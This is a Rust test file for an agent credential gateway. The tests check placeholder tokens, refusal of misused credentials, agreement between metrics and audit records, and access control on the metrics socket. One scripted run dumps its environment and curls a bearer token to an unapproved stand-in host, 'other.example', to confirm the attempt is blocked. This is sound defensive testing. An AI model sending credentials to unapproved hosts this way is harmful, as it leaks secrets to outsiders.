//! Credentials that runs are shown (A34), through whole runs, and counts of what became of them (A30).

use std::{collections::BTreeMap, fs, os::unix::fs::PermissionsExt as _, process::Command};

use serde_json::Value;

use super::site::Site;

const POLICY: &str = "@id(\"any\")\npermit (principal, action == Action::\"http\", resource);\n";
const CONFIG: &str = "[credentials.gh]\nfrom = \"file:BASE/secret\"\n[credentials.plain]\nfrom = \"file:BASE/secret\"\n\
    [tools.api]\nkind = \"http\"\nurl = \"http://origin.example:ORIGIN/\"\n\
    [agents.default.expose]\nGITHUB_TOKEN = { credential = \"gh\", as = \"placeholder\", prefix = \"ghp_\", \
    for = [\"http://origin.example:ORIGIN\"] }\nX = { credential = \"plain\", as = \"value\" }\n";
const VALUE: &str = "a-real-value/of+ours%0";

fn site() -> Site {
    let site = Site::configured(POLICY, CONFIG);
    let secret = site.work().parent().unwrap().join("secret");
    fs::write(&secret, format!("{VALUE}\n")).unwrap();
    fs::set_permissions(&secret, fs::Permissions::from_mode(0o600)).unwrap();
    site
}

fn events(site: &Site, name: &str) -> Vec<Value> {
    let records = site.records();
    let lines = records.lines().map(|line| serde_json::from_str::<Value>(line).expect(line));
    lines.filter(|line| line["event"] == name).collect()
}

/// A34: real curl with a placeholder in its environment, before and after both processes were killed.
#[test]
fn a_run_uses_a_placeholder_and_its_misuse_names_process_and_host_a34_case_90() {
    let mut site = site();
    let origin = site.origin;
    let call = "curl -sS -m 10 -H \"Authorization: Bearer $GITHUB_TOKEN\"";
    site.start_run(&format!(
        "env > env; {call} http://origin.example:{origin}/tells > own; echo >> own; \
         {call} http://other.example:{origin}/tells > other; \
         while [ ! -e go ]; do sleep 0.05; done; \
         {call} http://origin.example:{origin}/tells > own2; {call} http://other.example:{origin}/tells > other2; \
         echo > over"
    ));
    site.until("the run has called", |site| !site.lines("other").is_empty());
    let env = site.lines("env");
    let of = |name: &str| env.iter().find_map(|line| line.strip_prefix(name)).unwrap().to_owned();
    let placeholder = of("GITHUB_TOKEN=");
    assert!(placeholder.starts_with("ghp_") && placeholder.len() == 44, "{placeholder}");
    assert_eq!(of("X="), VALUE);
    let own = site.lines("own").join("\n");
    assert!(own.contains(&format!("authorization: Bearer {}", "*".repeat(VALUE.len()))), "{own}");
    let other = site.lines("other").join("");
    assert!(other.contains("PLACEHOLDER_MISUSED"), "{other}");
    site.until("the misuse is on record", |site| events(site, "credential.misused").len() == 1);
    let misused = events(&site, "credential.misused").remove(0);
    let facts = &misused["facts"];
    assert_eq!(
        (&facts["host"], &facts["credential"], &facts["comm"]),
        (&"other.example".into(), &"gh".into(), &"curl".into())
    );
    assert_eq!(facts["port"], origin.to_string());
    let started = events(&site, "run.started").remove(0);
    assert_eq!(started["facts"]["exposed"], "GITHUB_TOKEN=placeholder:gh X=value:plain");

    // The next agent knows it still: what is bound stays bound.
    site.kill_gateway();
    site.kill_agent();
    site.start_agent();
    fs::write(site.work().join("go"), "").unwrap();
    site.until("the run is over", |site| !site.lines("over").is_empty());
    let own = site.lines("own2").join("\n");
    assert!(own.contains("authorization: Bearer ***") && !own.contains(&placeholder), "{own}");
    assert!(site.lines("other2").join("").contains("PLACEHOLDER_MISUSED"), "{:?}", site.lines("other2"));

    let records = site.records() + &site.strait(&["log", "--json", "--lines", "all"]);
    assert!(!records.contains(VALUE) && !records.contains(&placeholder), "{records}");
    assert!(records.contains("\"placeholders\":[\"gh\"]"));
    let state = site.work().parent().unwrap().join("state");
    for text in [VALUE, placeholder.as_str()] {
        let found = Command::new("grep").args(["-rlF", text]).arg(&state).output().unwrap();
        assert!(found.stdout.is_empty(), "on disk: {found:?}");
    }
}

#[test]
fn a_value_that_cant_be_had_keeps_the_run_from_starting_a34() {
    let site = Site::configured(POLICY, CONFIG);
    let output =
        site.command(&["run", "--workspace", site.work().to_str().unwrap(), "--", "true"]).output().unwrap();
    let said = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(125), "{said}");
    assert!(said.contains("`plain`") && said.contains("secret"), "{said}");
    assert!(events(&site, "run.started").is_empty());
}

/// Counts of the records, taken from the files as `jq` would.
fn counted(site: &Site) -> BTreeMap<String, u64> {
    let state = site.work().parent().unwrap().join("state");
    let files = Command::new("find").args([state.to_str().unwrap(), "-name", "*.jsonl"]).output().unwrap();
    let files = String::from_utf8(files.stdout).unwrap();
    let mut counts = BTreeMap::new();
    let text: String = files.lines().map(|file| fs::read_to_string(file).unwrap()).collect();
    for line in text.lines() {
        let line: Value = serde_json::from_str(line).expect(line);
        let field = |name: &str| line[name].as_str().unwrap_or_default().to_owned();
        let (stream, phase, decision) = (field("stream"), field("phase"), field("decision"));
        let count = line["count"].as_u64().unwrap_or(1);
        let mut add = |name: String, more: u64| *counts.entry(name).or_insert(0) += more;
        add(format!("strait_records_total{{stream=\"{stream}\"}}"), 1);
        if stream == "activity" && phase == "done" {
            add(format!("strait_calls_total{{kind=\"{}\",decision=\"{decision}\"}}", field("kind")), 1);
        }
        if stream == "trace" && phase == "done" {
            add(format!("strait_steps_total{{tool=\"{}\",decision=\"{decision}\"}}", field("tool")), 1);
        }
        let own = stream == "trace" || line.get("step").is_none();
        if phase != "decided" && own && decision == "deny" && line.get("code").is_some() {
            add(format!("strait_refusals_total{{code=\"{}\"}}", field("code")), count);
        }
        if stream == "event" {
            add(format!("strait_events_total{{event=\"{}\"}}", field("event")), 1);
        }
        if field("source") == "kernel" && field("kind") != "lost" {
            add("strait_kernel_events_total{state=\"delivered\"}".to_owned(), 1);
            add("strait_kernel_events_total{state=\"folded\"}".to_owned(), count - 1);
        }
    }
    counts.retain(|_, count| *count > 0);
    counts
}

fn told(site: &Site) -> BTreeMap<String, u64> {
    let text = site.strait(&["metrics"]);
    let samples = text.lines().filter(|line| !line.starts_with('#') && line.contains("_total"));
    let pair = |line: &str| {
        let (name, value) = line.rsplit_once(' ').expect(line);
        (name.to_owned(), value.parse::<u64>().expect(line))
    };
    samples.map(pair).filter(|(_, value)| *value > 0).collect()
}

/// A30: every counter is the count of the lines on record, whatever became of the calls.
#[test]
fn counts_match_the_records_exactly_a30() {
    let mut site = site();
    let origin = site.origin;
    site.start_run(&format!(
        "c() {{ curl -sS -m 10 -o /dev/null \"$@\"; }}; \
         for i in 1 2 3; do c http://origin.example:{origin}/; done; \
         c -H \"x: $GITHUB_TOKEN\" http://other.example:{origin}/; \
         c http://origin.example:1/; c http://unheard.example/; c http://192.0.2.1/; c http://192.0.2.1/; \
         c -H \"x-api-key: $STRAIT_TOKEN\" $STRAIT_GATEWAY/http/api/x; c $STRAIT_GATEWAY/http/api/x; \
         c -H \"x-api-key: $STRAIT_TOKEN\" $STRAIT_GATEWAY/http/none/x; echo > over"
    ));
    site.until("the run is over", |site| {
        site.records().contains("run.ended") && site.records().contains("misused")
    });
    site.until("the counts match", |site| told(site) == counted(site));
    let told = told(&site);
    for (name, least) in [
        ("strait_calls_total{kind=\"request\",decision=\"allow\"}", 3),
        ("strait_steps_total{tool=\"api\",decision=\"allow\"}", 1),
        ("strait_refusals_total{code=\"PLACEHOLDER_MISUSED\"}", 1),
        ("strait_refusals_total{code=\"TOKEN_MISSING\"}", 1),
        ("strait_refusals_total{code=\"KERNEL_DESTINATION\"}", 2),
        ("strait_events_total{event=\"run.ended\"}", 1),
        ("strait_kernel_events_total{state=\"delivered\"}", 1),
    ] {
        assert!(told.get(name).is_some_and(|count| *count >= least), "{name}: {told:#?}");
    }
    let text = site.strait(&["metrics"]);
    assert!(text.contains("\nstrait_runs 0\n") && text.contains("\nstrait_gateway_up 1\n"), "{text}");
    assert!(!text.contains("http:") && !text.contains("example"), "no URL, no argument: {text}");
    // Neither a user without the group nor a run reads them.
    let socket = site.run_dir().join("control.sock");
    let ask = |user: &[&str]| {
        let curl = ["curl", "-sS", "--unix-socket", socket.to_str().unwrap(), "http://localhost/metrics"];
        let all = [user, &curl].concat();
        let output = Command::new(all[0]).args(&all[1..]).output().unwrap();
        String::from_utf8_lossy(&output.stdout).into_owned() + &String::from_utf8_lossy(&output.stderr)
    };
    assert!(ask(&["env"]).contains("# HELP strait_calls_total"), "positive control");
    fs::set_permissions(&socket, fs::Permissions::from_mode(0o666)).unwrap();
    let refused = ask(&["setpriv", "--reuid", "4000123", "--regid", "4000123", "--clear-groups"]);
    assert!(refused.contains("NOT_AUDITOR"), "{refused}");
}
